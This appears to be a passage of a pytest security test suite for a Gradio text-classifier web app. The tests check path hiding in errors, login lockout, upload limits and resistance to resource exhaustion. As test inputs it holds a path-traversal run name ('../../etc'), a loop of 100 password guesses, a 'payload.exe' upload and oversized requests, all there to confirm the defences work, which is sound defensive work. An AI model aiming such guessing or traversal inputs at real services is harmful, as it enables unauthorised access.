    monkeypatch.setattr(evaluate_tab, "curve_figures", broken)
    load = next(fn.fn for fn in handlers_of(build_app()) if fn.api_name == "evaluation")
    for lang, generic in (("en", "Something went wrong"), ("zh-CN", "出错了")):
        with caplog.at_level("ERROR"):
            message = page_error(load, "r", "counts", lang)
        assert generic in message
        assert "RuntimeError: &lt;b&gt;boom&lt;/b&gt; in r/events.jsonl and secret.key" in message
        assert "second line" not in message and ("server's log" in message or "服务器日志" in message)
        assert "Traceback" in caplog.text and "second line" in caplog.text  # the details stay on the server
    # a lambda without a `lang` argument says it in both languages
    with gr.Blocks() as demo:
        button = gr.Button(elem_id="b")
        button.click(lambda: 1 / 0, None, None)
    from classifier.webui.common import guard_handlers

    message = page_error(handler_on(guard_handlers(demo), "b"))
    assert "ZeroDivisionError: division by zero" in message
    assert "Something went wrong" in message and "出错了" in message


def test_open_in_train_with_a_bad_or_300_character_run_name_says_why():
    from classifier.webui.app_builder import build_app

    open_train = handler_on(build_app(), "open-train")
    assert "is not a run name" in page_error(open_train, "../../etc", "en")
    message = page_error(open_train, "x" * 300, "en")
    assert "A run name of 300 characters is not a run" in message and "255 bytes" in message
    assert "请先选择一个运行" in page_error(open_train, "", "zh-CN")


def test_a_300_character_run_name_in_every_run_picker_says_why(tiny_model):
    """Before: OSError (File name too long) in every handler that looks a run up, shown as a bare "Error"."""
    from classifier.webui import predict_tab
    from classifier.webui.app_builder import build_app

    long_name = "é" * 150  # 300 bytes in UTF-8
    demo = build_app()
    load = next(fn.fn for fn in handlers_of(demo) if fn.api_name == "evaluation")
    by_name = {fn.fn.__name__: fn.fn for fn in handlers_of(demo)}
    calls = [(load, long_name, "counts", "en"), (predict_tab.predict, "some text", long_name),
             (by_name["make_zip"], long_name, "en"), (by_name["ask_delete"], long_name, "en"),
             (by_name["try_threshold"], long_name, 0.5, "counts", "en")]
    for call, *args in calls:
        assert "A run name of 150 characters is not a run" in page_error(call, *args), call


def test_an_evaluate_view_of_predictions_without_gold_says_which_column(tiny_model):
    from classifier.runs import runs_root
    from classifier.webui.app_builder import build_app

    run = runs_root() / "edited"
    run.mkdir(parents=True)
    metrics = {"accuracy": 0.9, "macro_f1": 0.9, "labels": ["ham", "spam"], "report": {},
               "confusion_matrix": [[1, 0], [0, 1]], "binary": {"roc": [[0, 0], [1, 1]], "threshold": 0.5}}
    (run / "metrics.json").write_text(json.dumps(metrics))
    (run / "predictions.csv").write_text("text,label,predicted,confidence,p_ham,p_spam\nhi,ham,ham,0.9,0.9,0.1\n")
    demo = build_app()
    load = next(fn.fn for fn in handlers_of(demo) if fn.api_name == "evaluation")
    by_name = {fn.fn.__name__: fn.fn for fn in handlers_of(demo)}
    for call, *args in ((load, "edited", "counts", "en"), (by_name["show_errors"], "edited", "", "en"),
                        (by_name["try_threshold"], "edited", 0.3, "counts", "en")):
        message = page_error(call, *args)
        assert "edited/predictions.csv has no 'gold' column" in message and "train the run again" in message, call


def test_a_damaged_model_message_names_the_run_not_the_server_path(tiny_model):
    from classifier.webui import predict_tab

    run = make_run(tiny_model, "damaged")
    (run / "best" / "model.safetensors").write_bytes(b"\x08\x00\x00\x00\x00\x00\x00\x00{\"a")  # cut short
    message = page_error(predict_tab.predict, "some text", "damaged")
    assert "The model in damaged/best cannot be loaded" in message


def test_page_text_hides_the_servers_paths():
    from classifier.runs import display_path, runs_root
    from classifier.webui.common import page_text

    inside = runs_root() / "sms" / "best" / "config.json"
    assert display_path(inside) == "sms/best/config.json" and display_path("org/model") == "org/model"
    assert display_path("/srv/uploads/abc123/reviews.csv") == "reviews.csv"
    text = f"[Errno 2] No such file: '{inside}'; see /usr/lib/python3/site-packages/x/model and https://hf.co/a/b"
    assert page_text(text) == ("[Errno 2] No such file: 'sms/best/config.json'; see model and "
                               "https://hf.co/a/b")
    assert page_text("'/etc' is not a run name; labels a/b, train/validation/test") == \
        "'/etc' is not a run name; labels a/b, train/validation/test"


# ---------------------------------------------------------------------------------------------------------------
# 12. Guessing the login's password
# ---------------------------------------------------------------------------------------------------------------
def test_wrong_passwords_are_slowed_down_and_a_name_is_locked_out():
    """Before, Gradio's login answered 100 wrong passwords in 1.3 s. Now every refusal waits, and five wrong
    passwords within a minute lock the name for a minute, the right password included (a clock of our own here)."""
    import asyncio

    from classifier.security import LoginGuard

    now, waits = [1000.0], []

    async def sleep(seconds):
        waits.append(seconds)

    guard = LoginGuard([("alice", "long-secret"), ("bob", "pässwört")], max_failures=5, window=60, lockout=60,
                       delay=0.5, clock=lambda: now[0], sleep=sleep)

    def login(user, password):
        return asyncio.run(guard.check(user, password))

    assert login("alice", "long-secret") and login("bob", "pässwört") and waits == []
    assert not any(login("alice", f"guess-{i}") for i in range(100))  # the attack
    assert waits == [0.5] * 100  # each wrong one waited
    assert not login("alice", "long-secret")  # locked: the right password is refused too
    assert login("bob", "pässwört")  # another name is not locked
    assert not login("alice", "long-secre") and not login("alicee", "long-secret") and not login("", "")
    now[0] += 59
    assert not login("alice", "long-secret")
    now[0] += 2  # the lockout is over
    assert login("alice", "long-secret")
    for _ in range(10):  # wrong passwords spread wider than the window never lock
        assert not login("alice", "typo")
        now[0] += 20
    assert login("alice", "long-secret")


def serve(demo, options: dict) -> str:
    """`demo` served in this process on a free port (the caller closes it); returns its address."""
    from tests.webui_helpers import free_port

    port = free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, **options)
    return f"http://127.0.0.1:{port}"


def http(method: str, url: str, data: bytes | None = None, headers: dict | None = None) -> tuple[int, bytes, dict]:
    import urllib.error
    import urllib.request

    request = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.read(), dict(response.headers)
    except urllib.error.HTTPError as error:
        return error.code, error.read(), dict(error.headers)


def test_the_running_app_locks_out_a_password_guesser(monkeypatch):
    """CLASSIFIER_AUTH through the real login route of a launched app: wrong passwords wait, the sixth try is refused
    even with the right password, and after the lockout the right one gets in. Also pins what docs/security.md says
    Gradio shows before the login: the public endpoint list is in the page (GET /), nothing else answers."""
    import inspect
    import re
    from urllib.parse import urlencode

    from classifier.webui import build_app, launch_options

    monkeypatch.setenv("CLASSIFIER_AUTH", "alice:long-secret")
    options = launch_options()
    assert inspect.iscoroutinefunction(options["auth"])  # awaited by Gradio: the wait holds up no one else
    assert "5 wrong passwords" in options["auth_message"] and "5 次密码" in options["auth_message"]
    guard = options["auth"].__self__
    guard.delay, guard.lockout = 0.3, 2.0  # quicker than the defaults (1 s, 60 s), same code
    demo = build_app()
    base = serve(demo, options)
    try:
        def login(password: str) -> int:
            body = urlencode({"username": "alice", "password": password}).encode()
            return http("POST", f"{base}/login", body, {"Content-Type": "application/x-www-form-urlencoded"})[0]

        started = time.perf_counter()
        assert [login(f"guess-{i}") for i in range(5)] == [400] * 5
        assert time.perf_counter() - started >= 5 * 0.3
        assert login("long-secret") == 400  # locked
        time.sleep(2.1)
        assert login("long-secret") == 200

        status, page, _ = http("GET", f"{base}/")  # before any login
        assert status == 200 and re.search(rb'"auth_required":\s*true', page)  # the login form, not the app
        assert b'"/predict"' in page and b"start_training" not in page  # the public endpoints, their parameters
        assert b"start_training" in http("GET", f"{base}/?all_endpoints=true")[1]  # and on request the others
        for path in ("/gradio_api/info", "/config"):
            assert http("GET", base + path)[0] == 401
        json_type = {"Content-Type": "application/json"}  # urllib keeps no cookie: the login above is not sent
        assert http("POST", f"{base}/gradio_api/call/predict", b'{"data": ["hi", ""]}', json_type)[0] == 401
    finally:
        demo.close()


# ---------------------------------------------------------------------------------------------------------------
# 13. Uploads to the open demo
# ---------------------------------------------------------------------------------------------------------------
def test_the_demo_refuses_big_uploads_and_soon_removes_the_others(tmp_path, monkeypatch):
    """CLASSIFIER_DEMO=1, launched: before, anyone could put files of any type and up to 100 MB into
    /gradio_api/upload, kept a day. Now the demo takes 10 MB at most, and removes what was uploaded after
    DEMO_DELETE_CACHE (15 minutes; 2 seconds here). Gradio checks no file type at its upload route."""
    import httpx

    from classifier.webui import app_builder, build_app, launch_options

    monkeypatch.setenv("CLASSIFIER_DEMO", "1")
    monkeypatch.delenv("CLASSIFIER_MAX_UPLOAD_MB", raising=False)
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "uploads"))
    monkeypatch.setattr(app_builder, "DEMO_DELETE_CACHE", (1, 2))
    options = launch_options()
    assert options["max_file_size"] == 10 * 1024 * 1024
    demo = build_app()
    assert demo.delete_cache == (1, 2)
    base = serve(demo, options)
    try:
        big = httpx.post(f"{base}/gradio_api/upload", files={"files": ("big.csv", b"x" * (10 * 1024 * 1024 + 1))},
                         timeout=60)
        assert big.status_code == 413 and not list((tmp_path / "uploads").rglob("big.csv"))
        small = httpx.post(f"{base}/gradio_api/upload", files={"files": ("payload.exe", b"MZ anything")}, timeout=60)
        assert small.status_code == 200
        stored = Path(small.json()[0])
        assert stored.is_file() and tmp_path / "uploads" in stored.parents
        deadline = time.monotonic() + 20
        while stored.exists() and time.monotonic() < deadline:
            time.sleep(0.25)
        assert not stored.exists()
    finally:
        demo.close()
    monkeypatch.delenv("CLASSIFIER_DEMO")
    assert launch_options()["max_file_size"] == 100 * 1024 * 1024  # the full app keeps its limit
    monkeypatch.setenv("CLASSIFIER_DEMO", "1")
    monkeypatch.setenv("CLASSIFIER_MAX_UPLOAD_MB", "50")
    assert launch_options()["max_file_size"] == 50 * 1024 * 1024  # and the operator's own setting wins


# ---------------------------------------------------------------------------------------------------------------
# The attacks against the running app, through its HTTP API
# ---------------------------------------------------------------------------------------------------------------
def test_the_running_app_bounds_what_one_visitor_costs(tiny_model, tmp_path, monkeypatch):
    """`python app.py`, driven through gradio_client as an outside visitor: a 10 MB text to /predict is refused at
    once and the app still answers; an unknown run is an error; a slow file does not hold up another visitor's
    sample (before: 170 s behind it), and is stopped at CLASSIFIER_LOAD_TIMEOUT."""
    from gradio_client import Client, handle_file
    from gradio_client.exceptions import AppError

    from classifier.runs import classifier_home
    from tests.webui_helpers import start_studio, stop_studio

    make_run(tiny_model)
    monkeypatch.setenv("CLASSIFIER_LOAD_TIMEOUT", "5")
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "uploads"))  # the uploaded copy goes with tmp_path
    slow = tmp_path / "slow.csv"  # 6,000 texts of 4,000 characters: 8 s to summarise on 2 busy cores, stopped at 5
    slow.write_text("text,label\n" + "".join(f"{i} {huge_text(4000)},{'ab'[i % 2]}\n" for i in range(6000)))
    studio = start_studio(classifier_home())
    try:
        first, second = Client(studio.url, verbose=False), Client(studio.url, verbose=False)
        assert first.predict("Claim your prize now", "tiny", api_name="/predict")["label"] in ("ham", "spam")
        started = time.perf_counter()
        with pytest.raises(AppError, match="CLASSIFIER_MAX_TEXT_CHARS"):
            first.predict(huge_text(10_000_000), "tiny", api_name="/predict")
        assert time.perf_counter() - started < 20  # the upload of 10 MB included; before: 16 s and +1.5 GB
        with pytest.raises(AppError, match="There is no run named 'no-such-run'"):
            first.predict("hello", "no-such-run", api_name="/predict")
        split = [0.15, 0.15, 42, "keep", None, None]
        second.predict("en", *split, api_name="/load_sms_sample")  # the worker's fork server is up
        job = first.submit(handle_file(str(slow)), "en", *split, api_name="/load_file")
        time.sleep(1.0)
        started = time.perf_counter()
        second.predict("en", *split, api_name="/load_sms_sample")
        assert not job.done(), "the slow file finished first: it cannot show whether it blocks others"
        assert time.perf_counter() - started < 5
        with pytest.raises(AppError, match="took longer than 5 seconds, so it was stopped"):
            job.result()
    finally:
        stop_studio(studio)
